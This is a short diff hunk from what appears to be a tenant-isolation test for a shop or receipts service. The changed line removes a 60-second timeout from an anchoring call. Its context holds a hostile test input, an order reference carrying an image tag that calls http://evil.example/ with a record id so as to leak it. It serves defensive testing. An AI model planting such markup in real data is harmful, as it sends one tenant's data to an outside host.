@@ -37,7 +37,7 @@ it(`of ${count} hostile conversations none gets any data of another tenant`, { t
     `order <img src="http://evil.example/?${known}">`,
   ]
   for (const reference of hostile) await record(shop.key, { reference })
-  await Promise.all([known, unknown, own].map(id => api.anchored(id, 60_000)))
+  await Promise.all([known, unknown, own].map(id => api.anchored(id)))
   const { rows } = await service.app.pool.query('select bundle_hash, ledger_txid from receipts where project_id = $1', [
     other.id,
   ])
